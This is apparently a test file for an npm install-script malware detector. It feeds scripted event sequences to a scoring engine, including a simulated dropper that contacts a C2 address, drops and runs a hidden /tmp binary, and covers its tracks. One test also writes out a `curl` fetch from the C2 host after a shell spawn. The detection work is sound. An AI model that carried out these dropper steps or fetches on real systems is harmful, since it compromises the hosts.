// The Detector over handmade event sequences: when a package crosses the
// threshold, dedupe, host facts from run-start, benign look-alikes.
import { fileURLToPath } from 'node:url';
import { describe, expect, it, vi } from 'vitest';
import { loadAllowlist } from '../../src/allowlist/allowlist.js';
import type { GuardedEvent } from '../../src/events/types.js';
import type { Finding } from '../../src/rules/types.js';
import { DEFAULT_THRESHOLD, Detector, type PackageVerdict } from '../../src/scoring/detector.js';
import { HOST, NODE, runStart, ScriptEmitter, Sequence, SH, spec, T0 } from '../rules/helpers.js';

// A directory with no guarded-install.allowlist.json: the shipped defaults only.
const NO_PROJECT_ALLOWLIST = fileURLToPath(new URL('../fixtures/event-logs-handmade/', import.meta.url));

const AXIOS = '/proj/node_modules/plain-crypto-js';

// plain-crypto-js (Axios compromise): node setup.js connects to the C2, drops a
// second stage in /tmp, runs it detached, beacons, deletes setup.js and swaps
// package.md over package.json.
function axiosSequence(): { events: GuardedEvent[]; spawn: GuardedEvent } {
  const seq = new Sequence();
  const s = new ScriptEmitter(spec({ id: 'ax', name: 'plain-crypto-js', version: '4.2.1', path: AXIOS, command: 'node setup.js' }), seq);
  const events: GuardedEvent[] = [runStart(seq), s.start(0), s.exec(5, 100, NODE, ['node', 'setup.js'])];
  events.push(s.connect(600, 100, '203.0.113.45', 8443));
  events.push(s.write(1_400, 100, '/tmp/.update-service'));
  const spawn = s.exec(2_100, 101, '/tmp/.update-service', ['/tmp/.update-service'], 100);
  events.push(spawn);
  events.push(s.detach(2_110, 101));
  events.push(s.connect(2_800, 100, '203.0.113.45', 8443));
  events.push(s.del(3_800, 100, `${AXIOS}/setup.js`));
  events.push(s.rename(3_810, 100, `${AXIOS}/package.md`, `${AXIOS}/package.json`));
  events.push(s.end(3_900, 100), s.scriptEnd(3_910));
  return { events, spawn };
}

function run(events: GuardedEvent[], detector = new Detector()): Detector {
  for (const e of events) detector.onEvent(e);
  return detector;
}

describe('Detector: Axios-like attack', () => {
  it('crosses the threshold exactly once, at the spawn of the dropped payload, and ends at 100', () => {
    const { events, spawn } = axiosSequence();
    const onCross = vi.fn<(pkg: PackageVerdict, finding: Finding, event: GuardedEvent) => void>();
    const scores: number[] = [];
    const detector = new Detector({ onCross });
    for (const e of events) {
      detector.onEvent(e);
      scores.push(detector.verdicts()[0]?.score ?? 0);
    }
    expect(onCross).toHaveBeenCalledTimes(1);
    const [pkg, trigger, event] = onCross.mock.calls[0] ?? [];
    expect(event).toBe(spawn);
    expect(event?.event.sequence).toBe(spawn.event.sequence);
    expect(trigger?.signal).toBe('process');
    expect(pkg?.name).toBe('plain-crypto-js');
    // before the spawn: egress 40 + drop 10
    expect(scores[events.indexOf(spawn) - 1]).toBe(50);
    expect(scores[events.indexOf(spawn)]).toBeGreaterThanOrEqual(DEFAULT_THRESHOLD);
    // scores never go down
    for (let i = 1; i < scores.length; i++) expect(scores[i]).toBeGreaterThanOrEqual(scores[i - 1] ?? 0);

    const [verdict] = detector.verdicts();
    expect(verdict?.score).toBe(100);
    expect(verdict?.composite).toMatchObject({ id: 'GI-COMBO-001', level: 'critical' });
    expect(verdict?.crossed).toMatchObject({ sequence: spawn.event.sequence, at: T0 + 2_100 });
    expect(verdict?.lifecycle).toEqual(['postinstall']);
    expect(detector.failed().map((p) => p.name)).toEqual(['plain-crypto-js']);
    expect(detector.hookScore(verdict as PackageVerdict, 'postinstall')).toBe(100);
    expect(detector.hookScore(verdict as PackageVerdict, 'preinstall')).toBe(0);
    const rules = verdict?.findings.map((f) => f.rule).sort();
    expect(rules).toEqual(['GI-CHURN-001', 'GI-CHURN-002', 'GI-CHURN-003', 'GI-DROP-001', 'GI-NET-001', 'GI-PROC-004', 'GI-PROC-005', 'GI-PROC-007'].sort());
  });

  it('is deterministic: two runs over the same events give the same verdicts', () => {
    const a = run(axiosSequence().events).verdicts();
    const b = run(axiosSequence().events).verdicts();
    expect(JSON.parse(JSON.stringify(a))).toEqual(JSON.parse(JSON.stringify(b)));
  });

  it('a higher threshold crosses later (at the churn), or never', () => {
    const { events } = axiosSequence();
    const crossed: number[] = [];
    run(events, new Detector({ threshold: 100, onCross: (_p, _f, e) => crossed.push(e.event.sequence) }));
    const churn = events.find((e) => e.kind === 'file-delete');
    expect(crossed).toEqual([churn?.event.sequence]);
    const never = vi.fn();
    const d = run(events, new Detector({ threshold: 101, onCross: never }));
    expect(never).not.toHaveBeenCalled();
    expect(d.failed()).toEqual([]);
  });

  it('findings carry attribution and evidence of the matching event', () => {
    const { events, spawn } = axiosSequence();
    const d = run(events);
    const f = d.verdicts()[0]?.findings.find((x) => x.rule === 'GI-PROC-004');
    expect(f).toMatchObject({ scriptId: 'ax', lifecycle: 'postinstall', sequence: spawn.event.sequence, at: T0 + 2_100, package: { name: 'plain-crypto-js', version: '4.2.1', path: AXIOS } });
    expect(f?.evidence).toMatchObject({ pid: 101, ppid: 100, executable: '/tmp/.update-service', writtenBy: 'ax', sequence: spawn.event.sequence });
  });
});

describe('Detector: dedupe', () => {
  it('the same connect twice -> one finding with occurrences 2', () => {
    const seq = new Sequence();
    const s = new ScriptEmitter(spec(), seq);
    const d = new Detector();
    const first = [runStart(seq), s.start(0), s.exec(1, 100, NODE, ['node', 'setup.js']), s.connect(10, 100, '203.0.113.45', 443)];
    for (const e of first) d.onEvent(e);
    expect(d.onEvent(s.connect(20, 100, '203.0.113.45', 443))).toEqual([]);
    const findings = d.verdicts()[0]?.findings ?? [];
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ rule: 'GI-NET-001', occurrences: 2, at: T0 + 10 });
  });

  it('another port or another address is another finding', () => {
    const seq = new Sequence();
    const s = new ScriptEmitter(spec(), seq);
    const d = run([runStart(seq), s.start(0), s.connect(10, 100, '203.0.113.45', 443), s.connect(20, 100, '203.0.113.45', 80), s.connect(30, 100, '198.51.100.1', 443)]);
    expect(d.verdicts()[0]?.findings).toHaveLength(3);
  });

  it('the same behaviour in two packages is a finding in each', () => {
    const seq = new Sequence();
    const a = new ScriptEmitter(spec({ id: 'a', name: 'a', path: '/proj/node_modules/a' }), seq, 100);
    const b = new ScriptEmitter(spec({ id: 'b', name: 'b', path: '/proj/node_modules/b' }), seq, 200);
    const d = run([runStart(seq), a.start(0), b.start(0), a.connect(10, 100, '203.0.113.45', 443), b.connect(10, 200, '203.0.113.45', 443)]);
    expect(d.verdicts().map((v) => [v.name, v.findings.length])).toEqual([['a', 1], ['b', 1]]);
  });

  // GAP (src/scoring/detector.ts record(): a repeat only bumps `occurrences`
  // and keeps the first `at`): a behaviour repeated later is pinned to its first
  // time, so it never correlates with signals near its later occurrences. A
  // dropper that pings its C2 once early and again when it spawns its payload
  // 60 s later (or a worm that primes the dedupe on purpose) scores 40 (the
  // lone egress), not >= 80 (process + egress).
  it('a repeated connection still correlates with a process signal next to its later occurrence', () => {
    const seq = new Sequence();
    const s = new ScriptEmitter(spec(), seq);
    const d = run([
      runStart(seq),
      s.start(0),
      s.exec(1, 100, NODE, ['node', 'setup.js']),
      s.connect(1_000, 100, '203.0.113.45', 443),
      s.connect(61_000, 100, '203.0.113.45', 443),
      s.exec(61_500, 101, SH, [SH, '-c', 'id'], 100),
      s.exec(61_600, 102, '/usr/bin/curl', ['curl', 'http://203.0.113.45/x'], 101),
    ]);
    expect(d.verdicts()[0]?.score).toBeGreaterThanOrEqual(DEFAULT_THRESHOLD);
  });
});

describe('Detector: host facts come from run-start', () => {
  function persistenceRun(home: string): string[] {
    const seq = new Sequence();
    const s = new ScriptEmitter(spec(), seq);
    const d = run([runStart(seq, { ...HOST, home }), s.start(0), s.write(10, 100, '/home/alt/.bashrc', false), s.write(20, 100, '/home/u/.zshrc', false)]);
    return (d.verdicts()[0]?.findings ?? []).map((f) => `${f.rule} ${String(f.evidence.path)}`);
  }

  it('HOME=/home/alt: ~/.bashrc is /home/alt/.bashrc, /home/u/.zshrc is nobody\'s', () => {
    expect(persistenceRun('/home/alt')).toEqual(['GI-PERSIST-001 /home/alt/.bashrc']);
  });

  it('HOME=/home/u: the other way round', () => {
    expect(persistenceRun('/home/u')).toEqual(['GI-PERSIST-001 /home/u/.zshrc']);
  });

  it('resolvers and temp dirs from run-start', () => {
    const seq = new Sequence();
    const s = new ScriptEmitter(spec(), seq);
    const d = run([runStart(seq, { ...HOST, resolvers: ['9.9.9.9'], tempDirs: ['/scratch'] }), s.start(0), s.connect(10, 100, '9.9.9.9', 53), s.write(20, 100, '/scratch/p'), s.write(30, 100, '/tmp/q')]);
    expect((d.verdicts()[0]?.findings ?? []).map((f) => f.rule)).toEqual(['GI-DROP-001']);
    expect(d.verdicts()[0]?.findings[0]?.evidence.path).toBe('/scratch/p');
  });

  it('a second run-start resets what the context learned', () => {
    const seq = new Sequence();
    const s = new ScriptEmitter(spec(), seq);
    const d = new Detector();
    for (const e of [runStart(seq), s.start(0), s.write(10, 100, '/tmp/p'), runStart(seq)]) d.onEvent(e);
    expect(d.context.created.size).toBe(0);
    expect(d.context.scripts.size).toBe(0);
  });

  it('unattributed events are never findings', () => {
    const seq = new Sequence();
    const d = new Detector();
    d.onEvent(runStart(seq));
    const s = new ScriptEmitter(spec({ id: '', name: '', version: '', path: '' }), seq);
    expect(d.onEvent(s.connect(10, 100, '203.0.113.45', 443))).toEqual([]);
    expect(d.verdicts()).toEqual([]);
  });
});

describe('Detector: benign look-alikes stay below the threshold', () => {
  it('sharp: node spawns `/bin/sh -c pkg-config --modversion vips-cpp`, allowlisted by the shipped allowlist', () => {
    const { allowlist, sources } = loadAllowlist(NO_PROJECT_ALLOWLIST);
    expect(sources).toEqual(['allowlist.json (built-in)']);
    const seq = new Sequence();
    const s = new ScriptEmitter(spec({ id: 'sh', name: 'sharp', version: '0.33.5', path: '/proj/node_modules/sharp', event: 'install', command: 'node install/check.js' }), seq);
    const d = run(
      [
        runStart(seq),
        s.start(0),
        s.exec(2, 100, NODE, ['node', 'install/check.js']),
        s.exec(50, 101, SH, [SH, '-c', 'pkg-config --modversion vips-cpp'], 100),
        s.exec(52, 102, '/usr/bin/pkg-config', ['pkg-config', '--modversion', 'vips-cpp'], 101),
        s.end(60, 102, 1),
        s.end(61, 101, 1),
        s.scriptEnd(80),
      ],
      new Detector({ allowlist }),
    );
    const [v] = d.verdicts();
    expect(v?.findings.map((f) => f.rule)).toEqual(['GI-PROC-001']);
    expect(v?.findings[0]?.allowlisted).toEqual({ entry: expect.stringMatching(/sharp$/), points: 0 });
    expect(v?.score).toBe(0);
    expect(d.failed()).toEqual([]);
  });

  it('the same shell under another package name is not excused by the sharp entry', () => {
    const { allowlist } = loadAllowlist(NO_PROJECT_ALLOWLIST);
    const seq = new Sequence();
    const s = new ScriptEmitter(spec({ name: 'sharp-utils' }), seq);
    const d = run([runStart(seq), s.start(0), s.exec(2, 100, NODE, ['node', 'setup.js']), s.exec(50, 101, SH, [SH, '-c', 'pkg-config --modversion vips-cpp'], 100)], new Detector({ allowlist }));
    expect(d.verdicts()[0]?.findings[0]?.allowlisted).toBeUndefined();
    expect(d.verdicts()[0]?.score).toBe(30);
  });

  function esbuildSequence(): GuardedEvent[] {
    const E = '/proj/node_modules/esbuild';
    const seq = new Sequence();
    const s = new ScriptEmitter(spec({ id: 'es', name: 'esbuild', version: '0.25.0', path: E, command: 'node install.js' }), seq);
    return [
      runStart(seq),
      s.start(0),
      s.exec(2, 100, NODE, ['node', 'install.js']),
      // validateBinaryVersion of the platform package's binary
      s.exec(20, 101, '/proj/node_modules/@esbuild/linux-x64/bin/esbuild', ['/proj/node_modules/@esbuild/linux-x64/bin/esbuild', '--version'], 100),
      s.end(30, 101),
      // maybeOptimizePackage: link, rename over bin/esbuild
      s.link(40, 100, '/proj/node_modules/@esbuild/linux-x64/bin/esbuild', `${E}/bin-esbuild`),
      s.rename(41, 100, `${E}/bin-esbuild`, `${E}/bin/esbuild`),
      s.exec(50, 102, `${E}/bin/esbuild`, [`${E}/bin/esbuild`, '--version'], 100),
      s.end(60, 102),
      s.scriptEnd(70),
    ];
  }

  it('esbuild: link + rename of bin/esbuild + exec of it stays below 70 (churn at most)', () => {
    const { allowlist } = loadAllowlist(NO_PROJECT_ALLOWLIST);
    const d = run(esbuildSequence(), new Detector({ allowlist }));
    const v = d.verdicts()[0];
    expect(v?.score ?? 0).toBeLessThan(DEFAULT_THRESHOLD);
    expect(d.failed()).toEqual([]);
    expect(v?.findings.filter((f) => f.signal !== 'process' && f.signal !== 'churn')).toEqual([]);
  });

  // BUG (see test/rules/catalog.test.ts): the exec of the hard-linked
  // bin/esbuild is reported as GI-PROC-004 (45 points, process signal).
  it('esbuild: no process finding', () => {
    const { allowlist } = loadAllowlist(NO_PROJECT_ALLOWLIST);
    const d = run(esbuildSequence(), new Detector({ allowlist }));
    expect((d.verdicts()[0]?.findings ?? []).filter((f) => f.signal === 'process')).toEqual([]);
  });

  it('a node-gyp build (python3, make, cc, own temp files) scores 0 with the shipped allowlist', () => {
    const { allowlist } = loadAllowlist(NO_PROJECT_ALLOWLIST);
    const B = '/proj/node_modules/native';
    const seq = new Sequence();
    const s = new ScriptEmitter(spec({ id: 'nb', name: 'native', path: B, event: 'install', command: 'node build.js' }), seq);
    const d = run(
      [
        runStart(seq),
        s.start(0),
        s.exec(2, 100, NODE, ['node', 'build.js']),
        s.exec(10, 101, '/usr/bin/python3', ['python3', '-c', 'import json'], 100),
        s.write(20, 101, `${B}/build/config.gypi`),
        s.write(30, 100, `${B}/build/.deps-100.d`),
        s.exec(40, 102, '/usr/bin/make', ['make', 'CC=cc'], 100),
        s.exec(50, 103, SH, [SH, '-c', 'cc -c hello.c -o build/hello.o'], 102),
        s.exec(51, 103, '/usr/bin/cc', ['cc', '-c', 'hello.c', '-o', 'build/hello.o']),
        s.write(60, 103, '/tmp/ccAbc123.s'),
        s.write(70, 103, `${B}/build/hello.o`),
        s.del(80, 103, '/tmp/ccAbc123.s'),
        s.exec(90, 104, '/usr/bin/rm', ['rm', '-f', 'build/hello.o'], 102),
        s.del(91, 104, `${B}/build/hello.o`),
        s.del(100, 100, `${B}/build/.deps-100.d`),
        s.scriptEnd(110),
      ],
      new Detector({ allowlist }),
    );
    const v = d.verdicts()[0];
    expect(v?.score ?? 0).toBeLessThan(DEFAULT_THRESHOLD);
    // python3 under node is GI-PROC-003 and cc's temp file in /tmp is GI-DROP-001:
    // both excused by the built-in node-gyp entries
    expect(v?.findings.find((f) => f.rule === 'GI-PROC-003')?.allowlisted?.points).toBe(0);
    expect(v?.findings.find((f) => f.rule === 'GI-DROP-001')?.allowlisted?.points).toBe(0);
    expect((v?.findings ?? []).filter((f) => f.signal === 'churn')).toEqual([]);
    expect(v?.score).toBe(0);
  });
});
